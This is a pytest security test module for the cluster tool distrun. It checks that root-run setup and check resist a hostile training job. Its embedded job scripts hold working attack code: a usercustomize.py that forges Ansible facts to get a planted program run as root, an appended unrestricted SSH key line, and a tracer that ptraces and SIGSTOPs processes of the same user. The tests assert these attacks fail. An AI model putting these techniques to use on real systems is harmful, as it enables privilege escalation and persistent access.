"""Jobs that reach for root through what setup and check do as the training user: a process of
that user's uid answers for root, and a file that user can write feeds root.

A job plants, on every node, what any process of the training user's uid reads: a
``usercustomize.py`` in ``~/.local`` (Python imports it in every interpreter of that user that
does not say ``-s`` or ``-I``) that adds forged ``ansible_facts`` to any Ansible module's answer it
sees, naming as the node's Python a program of the job's, and on the cluster key's host a second
line in ``~/.ssh/id_ed25519.pub``: its own key, without any limit; then setup and a later run.
Another job, detached, stays alive through a whole ``distrun setup`` and ``distrun check``: on every node it traces
(``PTRACE_ATTACH``) and stops (``SIGSTOP``, continued two seconds later) every process of its uid
that lives outside every run's unit, and writes down what it found. Setup and check must stay
right (exit 0, every check passing), nothing forged may reach the controller's fact cache or a
root process, the key line must log in nowhere, and the detached job must find no process of its
uid that setup or check started. Both jobs' work is on the nodes through the same setup and check
(a full setup is the costliest step here, run once for both tests). Each attack is tallied in
tests/cluster/hostile.py.
"""

from __future__ import annotations

import json
import os
import subprocess
import textwrap
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from .conftest import distrun, new_train_run
from .hostile import TALLY, TRY_TRACE

HOME = "/home/distrun"
PUB = f"{HOME}/.ssh/id_ed25519.pub"

# Planted by rank 0 of every node. The forger answers for node2 only: one node is enough to show
# the way in, and the others' setup stays as it was.
PLANT = textwrap.dedent(r'''
    import os, socket, subprocess, sys
    tag = sys.argv[1]
    home = os.path.expanduser("~")
    host = socket.gethostname().split(".")[0]
    if os.environ.get("LOCAL_RANK", "0") == "0":
        evil = f"{home}/.local/bin/python3-{tag}"
        os.makedirs(os.path.dirname(evil), exist_ok=True)
        with open(evil, "w") as f:  # whoever runs this as the node's Python leaves its uid behind
            f.write(f"#!/bin/sh\nid -u > {home}/rooted-{tag}-$(hostname)\nexec /usr/bin/python3 \"$@\"\n")
        os.chmod(evil, 0o755)
        site = f"{home}/.local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
        os.makedirs(site, exist_ok=True)
        with open(f"{site}/usercustomize.py", "w") as f:
            f.write(FORGER.replace("TAG", tag).replace("EVIL", evil))
        if host == "node1":  # the cluster key's host: a second line, the job's own key, no limit
            key = f"{home}/.jobkey-{tag}"
            subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", f"job-{tag}", "-f", key], check=True)
            os.makedirs(f"{home}/.ssh", exist_ok=True)
            with open(f"{home}/.ssh/id_ed25519.pub", "a") as f:
                f.write("\n" + open(key + ".pub").read())
        sys.stdout.write(f"PLANTED {host}\n")
''')

# usercustomize.py: any module's JSON answer written by this interpreter gets forged facts.
FORGER = textwrap.dedent(r'''
    import io, json, socket, sys
    if socket.gethostname().split(".")[0] == "node2":
        class _Forge(io.TextIOBase):
            def __init__(self, inner):
                self.inner = inner
            def write(self, text):
                body = text.strip()
                if body.startswith("{") and '"invocation"' in body:
                    try:
                        data = json.loads(body)
                        data.setdefault("ansible_facts", {}).update(
                            {"distrun_forged": "TAG", "python": {"executable": "EVIL", "version": {"major": 3}}})
                        text = "\n" + json.dumps(data) + "\n"
                    except ValueError:
                        pass
                return self.inner.write(text)
            def flush(self):
                return self.inner.flush()
            def __getattr__(self, name):
                return getattr(self.inner, name)
        sys.stdout = _Forge(sys.stdout)
''')

# The detached job: on every node, every process of its uid outside every run's unit is traced
# and stopped for two seconds; what it found goes to ~/tracer-<tag>-<host>.json.
TRACER = TRY_TRACE + textwrap.dedent(r'''
    import json, os, re, signal, socket, sys, time
    tag, seconds = sys.argv[1], float(sys.argv[2])
    home = os.path.expanduser("~")
    host = socket.gethostname().split(".")[0]
    UNIT = re.compile(r"/distrun:[^/]+\.service$")  # a run's unit: the account's runs, not the target

    def read(path, n=4096):
        try:
            with open(path, "rb") as f:
                return f.read(n)
        except OSError:
            return b""

    def cgroup(pid):
        lines = read(f"/proc/{pid}/cgroup").decode(errors="replace").strip().splitlines()
        return lines[-1].split(":", 2)[-1] if lines else ""

    def uids(pid):
        for line in read(f"/proc/{pid}/status").decode(errors="replace").splitlines():
            if line.startswith("Uid:"):
                return [int(x) for x in line.split()[1:]]
        return []

    me, mine, found, due = os.getuid(), cgroup("self"), {}, []
    out = f"{home}/tracer-{tag}-{host}.json"
    deadline, last_write = time.time() + seconds, 0.0
    # Armed by the test once 'distrun train --detach' returned: what lives before is left alone
    # (the run's own start, the user's manager), what starts after is the target.
    while not os.path.exists(f"{home}/tracer-{tag}-arm") and time.time() < deadline:
        time.sleep(0.2)
    before = {n for n in os.listdir("/proc") if n.isdigit()}
    while time.time() < deadline and not os.path.exists(f"{home}/tracer-{tag}-stop"):
        for name in os.listdir("/proc"):
            if not name.isdigit() or name in found or name in before or int(name) == os.getpid():
                continue
            cg = cgroup(name)
            if me not in uids(name) or cg == mine or UNIT.search(cg):
                continue
            rec = {"seen": time.time(), "comm": read(f"/proc/{name}/comm").decode(errors="replace").strip(),
                   "cmd": read(f"/proc/{name}/cmdline", 300).replace(b"\0", b" ").decode(errors="replace").strip(),
                   "cgroup": cg}
            pid = int(name)
            rec["traced"] = try_trace(pid)
            try:
                os.kill(pid, signal.SIGSTOP)
                rec["stopped"] = True
                due.append((time.time() + 2, pid))
            except OSError as e:
                rec["stopped"] = e.strerror
            found[name] = rec
        now = time.time()
        for when, pid in [d for d in due if d[0] <= now]:
            due.remove((when, pid))
            try:
                os.kill(pid, signal.SIGCONT)
            except OSError:
                pass
        if now - last_write > 1:
            with open(out + ".tmp", "w") as f:
                json.dump({"armed": True, "found": found}, f)
            os.replace(out + ".tmp", out)
            last_write = now
        time.sleep(0.02)
    for _, pid in due:
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    with open(out + ".tmp", "w") as f:
        json.dump({"armed": True, "found": found, "ended": True}, f)
    os.replace(out + ".tmp", out)
''')

PLAIN = "import socket, sys\nsys.stdout.write(f'PLAIN {socket.gethostname()}\\n')\n"


def _bounded(*args: str, limit: int):
    """distrun with a limit: its result, or None when it was still running after limit seconds."""
    try:
        return distrun(*args, timeout=limit)
    except subprocess.TimeoutExpired:
        return None


def _reports(cluster, tag: str) -> dict[int, dict]:
    out = {}
    for k in (1, 2, 3):
        got = cluster.exec(k, f"cat {HOME}/tracer-{tag}-node{k}.json 2>/dev/null", check=False).stdout
        try:
            out[k] = json.loads(got)
        except ValueError:
            out[k] = {}
    return out


def _found_between(reports: dict[int, dict], start: float, end: float) -> dict[int, list[dict]]:
    return {k: [p for p in r.get("found", {}).values() if start <= p["seen"] <= end] for k, r in reports.items()}


def _cached_forgery(home: Path, tag: str) -> list[str]:
    """Fact cache files on the controller that hold the forged fact."""
    return [str(p) for p in (home / "facts").rglob("*") if p.is_file() and tag in p.read_text(errors="replace")]


def _said_by_each_node(run: Path, word: str) -> dict[str, str]:
    """Node -> the line starting with word in its ranks' logs (torchrun's per-rank stdout.log),
    as the run collected them from that node into its record."""
    said = {}
    for log in (run / "nodes").glob("*/attempts/*/torchrun/*/*/attempt_*/*/stdout.log"):
        node = log.relative_to(run / "nodes").parts[0]
        said.update({node: ln for ln in log.read_text(errors="replace").splitlines() if ln.startswith(word)})
    return said


def _plant(tmp_path, tag: str) -> None:
    plant = tmp_path / "plant.py"
    plant.write_text(PLANT.replace("FORGER", repr(FORGER)))
    planted = distrun("train", "--inventory", "test", "--launcher", "mpirun", "--script", str(plant), "--", tag,
                      timeout=600)
    assert planted.rc == 0 and planted.stdout.count("PLANTED ") == 3, planted.stdout[-3000:] + planted.stderr[-2000:]


def _unplant(cluster, home: Path, tag: str) -> None:
    for k in (1, 2, 3):
        cluster.exec(k, f"rm -rf {HOME}/.local/lib/python3*/site-packages/usercustomize.py "
                        f"{HOME}/.local/bin/python3-{tag} {HOME}/rooted-{tag}-* {HOME}/tracer-{tag}-* "
                        f"{HOME}/.jobkey-{tag}*; sed -i '/job-{tag}/d;/^$/d' {PUB} 2>/dev/null; "
                        f"sed -i '/job-{tag}/d' /etc/ssh/distrun_keys/distrun 2>/dev/null; true", check=False)
    cached = _cached_forgery(home, tag)
    for p in cached:  # the next check gathers them again
        os.unlink(p)
    if cached:
        distrun("check", "--inventory", "test", timeout=900)


@dataclass
class Attacked:
    """What one full setup and one check showed with both jobs' work on the nodes."""
    tag: str  # names what the jobs planted
    setup: Any  # CliResult, or None when setup was still running after its bound
    check: Any
    cached: list[str]  # fact cache files with the forged fact, right after setup
    rooted: dict[int, str]  # per node: who ran the job's program as the node's Python
    shell: subprocess.CompletedProcess[str]  # a login with the job's key line
    train: Any  # the plain run after setup
    train_run: Path | None
    in_setup: dict[int, list[dict]]  # what the tracer found while setup ran
    in_check: dict[int, list[dict]]
    took: tuple[float, float]  # seconds of setup, of check


@pytest.fixture(scope="module")
def attacked(provisioned, distrun_home, tmp_path_factory) -> Iterator[Attacked]:
    """Both jobs around one full setup (and one check): first the planted files (the forger in
    ~/.local and the key line), then the detached tracer, armed on every node; setup, check, the
    tracer stopped, then a plain run. Each test below asserts its part. The forger's results are
    read whatever setup did (setup is bounded), so a setup the tracer stops or hangs hides none of
    them; a setup that hangs fails both tests."""
    tmp_path = tmp_path_factory.mktemp("hostile-root")
    tag = uuid.uuid4().hex[:8]
    plain, tracer = tmp_path / "plain.py", tmp_path / "tracer.py"
    plain.write_text(PLAIN)
    tracer.write_text(TRACER)
    tracer_run = None
    try:
        _plant(tmp_path, tag)
        before = set((distrun_home / "runs").glob("*-train-*"))
        started = distrun("train", "--inventory", "test", "--launcher", "mpirun", "--detach", "--script", str(tracer),
                          "--", tag, "1800", timeout=600)
        tracer_run = new_train_run(distrun_home, before)
        assert started.rc == 0 and tracer_run is not None, started.stdout[-3000:] + started.stderr[-2000:]
        for k in (1, 2, 3):
            provisioned.exec(k, f"touch {HOME}/tracer-{tag}-arm && chown distrun: {HOME}/tracer-{tag}-arm")
        for _ in range(60):  # armed on every node
            if all(r.get("armed") for r in _reports(provisioned, tag).values()):
                break
            time.sleep(1)
        assert all(r.get("armed") for r in _reports(provisioned, tag).values()), _reports(provisioned, tag)

        t0 = time.time()
        setup = _bounded("setup", "--inventory", "test", limit=900)
        t1 = time.time()
        cached = _cached_forgery(distrun_home, tag)
        check = _bounded("check", "--inventory", "test", limit=600)
        t2 = time.time()
        for k in (1, 2, 3):
            provisioned.exec(k, f"touch {HOME}/tracer-{tag}-stop && chown distrun: {HOME}/tracer-{tag}-stop")
        time.sleep(3)
        reports = _reports(provisioned, tag)
        stopped = distrun("stop", tracer_run.name, timeout=300)  # the nodes are the plain run's again
        if stopped.rc == 0:
            tracer_run = None

        before = set((distrun_home / "runs").glob("*-train-*"))
        train = distrun("train", "--inventory", "test", "--launcher", "torchrun", "--script", str(plain), timeout=600)
        train_run = new_train_run(distrun_home, before)
        rooted = {k: provisioned.exec(k, f"for f in {HOME}/rooted-{tag}-*; do [ -e \"$f\" ] && "
                                         f"echo \"$(stat -c %U \"$f\") uid=$(cat \"$f\")\"; done; true",
                                      check=False).stdout.strip() for k in (1, 2, 3)}
        shell = provisioned.exec(1, f"runuser -u distrun -- ssh -F /etc/ssh/ssh_config -o BatchMode=yes "
                                    f"-o IdentitiesOnly=yes -i {HOME}/.jobkey-{tag} node2 'echo SHELL-{tag}; id -un'",
                                 check=False)
        yield Attacked(tag, setup, check, cached, rooted, shell, train, train_run,
                       _found_between(reports, t0, t1), _found_between(reports, t1, t2), (t1 - t0, t2 - t1))
    finally:
        for k in (1, 2, 3):
            provisioned.exec(k, f"touch {HOME}/tracer-{tag}-stop; chown distrun: {HOME}/tracer-{tag}-stop", check=False)
        if tracer_run is not None:
            distrun("stop", tracer_run.name, timeout=300)
        _unplant(provisioned, distrun_home, tag)


def test_files_a_job_wrote_into_the_home_feed_nothing_to_setup_root_or_the_fact_cache(attacked):
    a = attacked
    setup, shell = a.setup, a.shell
    print(f"\nsetup {'still running' if setup is None else f'rc={setup.rc}'}; cache files with the forged fact: "
          f"{a.cached}; root ran the job's program: {a.rooted}; "
          f"the job's key on node2: {shell.stdout.strip()[-200:] or shell.stderr.strip()[-200:]}")
    found = [TALLY.record("a setup module, fed by a file the job wrote, forges facts into the controller's cache",
                          bool(a.cached)),
             TALLY.record("root runs the program a forged fact names as the node's Python",
                          any("uid=0" in v for v in a.rooted.values())),
             TALLY.record("a key line the job appended to the cluster key's .pub logs in with a plain shell",
                          f"SHELL-{a.tag}" in shell.stdout)]
    assert not any(found), (a.cached, a.rooted, shell.stdout[-300:])
    # Not attacks: setup and a later run stay right.
    assert setup is not None and setup.rc == 0, setup and setup.stdout[-4000:] + setup.stderr[-2000:]
    # Under torchrun the terminal shows the head's ranks live (docs/guide/your-own-script.md);
    # every node's rank speaks in the log the run collected from that node.
    train = a.train
    assert train.rc == 0 and "PLAIN node1" in train.stdout, train.stdout[-3000:] + train.stderr[-2000:]
    assert a.train_run is not None and _said_by_each_node(a.train_run, "PLAIN") == {
        f"node{k}": f"PLAIN node{k}" for k in (1, 2, 3)}, train.stdout[-3000:]


def test_setup_and_check_stay_right_while_a_detached_job_traces_and_stops_its_uid(attacked):
    a = attacked
    setup, check, in_setup, in_check = a.setup, a.check, a.in_setup, a.in_check

    def shown(found: dict) -> dict:
        return {f"node{k}": [(p["comm"], p["cmd"][:80], p["traced"], p["stopped"]) for p in v]
                for k, v in found.items() if v}

    print(f"\nsetup {'still running' if setup is None else f'rc={setup.rc}'} after {a.took[0]:.0f}s, "
          f"check {'still running' if check is None else f'rc={check.rc}'} after {a.took[1]:.0f}s")
    print(f"processes of the training uid outside every run during setup: {json.dumps(shown(in_setup))}")
    print(f"... during check: {json.dumps(shown(in_check))}")
    # sshd's own process for a login as the user (check's, root's node key, -N: nothing runs
    # there) is sshd's, not distrun's, and cannot be traced; stopping it delays that login.
    traced = {k: [p for p in v if p["traced"] is True] for k, v in in_setup.items()}
    traced_check = {k: [p for p in v if p["traced"] is True] for k, v in in_check.items()}
    ours = {k: [p for p in in_setup[k] + in_check[k] if p["stopped"] is True and p["comm"] != "sshd"]
            for k in in_setup}
    found = [TALLY.record("a detached job traces a process of its uid that setup started outside every run",
                          any(traced.values())),
             TALLY.record("a detached job traces a process of its uid that check started outside every run",
                          any(traced_check.values())),
             TALLY.record("a detached job stops a program distrun runs for setup or check",
                          any(ours.values()))]
    assert not any(found), (shown(in_setup), shown(in_check))
    # Not attacks: what the user sees of setup and check stays right.
    assert setup is not None and setup.rc == 0, setup and setup.stdout[-4000:] + setup.stderr[-2000:]
    assert check is not None and check.rc == 0, check and check.stdout[-4000:] + check.stderr[-2000:]
